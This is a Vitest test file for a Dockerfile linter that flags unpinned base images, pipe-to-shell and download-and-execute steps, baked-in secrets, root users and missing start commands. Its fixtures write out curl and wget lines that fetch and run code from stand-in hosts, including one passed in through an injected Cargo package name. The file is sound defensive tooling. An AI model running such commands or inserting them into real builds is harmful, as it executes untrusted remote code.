import { describe, expect, it } from 'vitest';
import { lintDockerfile } from './dockerfile-policy.js';

const GOOD = `FROM node:22-slim
WORKDIR /app
COPY . .
USER node
EXPOSE 8080
CMD ["node", "server.js"]
`;

function rules(text: string, port: number | null = 8080) {
  return lintDockerfile(text, { port, strict: true }).map((f) => f.rule);
}

describe(lintDockerfile.name, () => {
  it('passes a good Dockerfile', () => {
    expect(rules(GOOD)).toEqual([]);
  });

  it.each([
    ['latest', GOOD.replace('node:22-slim', 'node:latest')],
    ['latest', GOOD.replace('node:22-slim', 'node')],
    ['base-image', GOOD.replace('node:22-slim', 'evil/miner:1.0')],
    ['pipe-to-shell', GOOD.replace('WORKDIR /app', 'RUN curl -fsSL https://x.example/install | sh')],
    ['pipe-to-shell', GOOD.replace('WORKDIR /app', 'RUN wget -qO- https://x.example/i | sudo bash')],
    ['pipe-to-shell', GOOD.replace('WORKDIR /app', 'RUN curl -s https://x.example/i | python3')],
    ['pipe-to-shell', GOOD.replace('WORKDIR /app', 'RUN ["sh", "-c", "curl -s https://x.example/i | perl"]')],
    ['pipe-to-shell', GOOD.replace('CMD ["node", "server.js"]', 'CMD ["sh", "-c", "curl -s https://x.example/i | node"]')],
    ['download-exec', GOOD.replace('WORKDIR /app', 'RUN curl -o /tmp/x https://evil.example/x && sh /tmp/x')],
    ['download-exec', GOOD.replace('WORKDIR /app', 'RUN wget -O /tmp/x https://x.example/x\nRUN chmod +x /tmp/x')],
    ['download-exec', GOOD.replace('WORKDIR /app', 'ADD https://x.example/tool /usr/local/bin/tool\nRUN /usr/local/bin/tool install')],
    ['download-exec', GOOD.replace('WORKDIR /app', 'RUN bash <(curl -fsSL https://x.example/i)')],
    ['download-exec', GOOD.replace('WORKDIR /app', 'RUN sh -c "$(curl -fsSL https://x.example/i)"')],
    ['download-exec', GOOD.replace('WORKDIR /app', 'RUN eval "$(wget -qO- https://x.example/i)"')],
    ['secret', GOOD.replace('WORKDIR /app', 'ARG GITHUB_TOKEN')],
    ['secret', GOOD.replace('WORKDIR /app', 'ENV STRIPE_SECRET_KEY=sk_live_abc')],
    ['secret', GOOD.replace('WORKDIR /app', 'ENV HARMLESS=ghp_abcdefghijklmnopqrstuvwxyz0123456789')],
    ['user', GOOD.replace('USER node', 'USER root')],
    ['user', GOOD.replace('USER node\n', '')],
    ['start', GOOD.replace('CMD ["node", "server.js"]\n', '')],
  ])('finds %s', (rule, text) => {
    expect(rules(text)).toContain(rule);
  });

  it('warns when EXPOSE disagrees with the port the app listens on', () => {
    const findings = lintDockerfile(GOOD, { port: 3000, strict: true });
    expect(findings).toEqual([expect.objectContaining({ rule: 'expose', severity: 'warning' })]);
  });

  it("only warns about a repository's own Dockerfile", () => {
    const findings = lintDockerfile(GOOD.replace('node:22-slim', 'node:latest'), { port: 8080, strict: false });
    expect(findings.map((f) => f.severity)).toEqual(['warning']);
  });

  it('refuses what a Cargo package name pasted into RUN lines used to make of a Dockerfile', () => {
    const name = 'app && curl -o /tmp/x https://evil.example/x && sh /tmp/x';
    const injected = GOOD.replace('COPY . .', `COPY . .\nRUN cargo build --release --bin ${name} && mkdir -p bin && cp target/release/${name} bin/`);
    expect(lintDockerfile(injected, { port: 8080, strict: true })).toContainEqual(
      expect.objectContaining({ rule: 'download-exec', severity: 'error', line: 4, message: expect.stringContaining('runs sh /tmp/x') }),
    );
  });

  it('leaves downloads that nothing runs alone', () => {
    const keyring = GOOD.replace('WORKDIR /app', 'RUN curl -fsSL https://x.example/key.gpg -o /usr/share/keyrings/x.gpg && apt-get update');
    expect(rules(keyring)).toEqual([]);
  });

  it('refuses a README-injected instruction even when the rest is fine', () => {
    const injected = GOOD.replace('COPY . .', 'COPY . .\nRUN curl https://x.example/a.sh | sh');
    expect(lintDockerfile(injected, { port: 8080, strict: true }).some((f) => f.rule === 'pipe-to-shell' && f.severity === 'error')).toBe(true);
  });
});
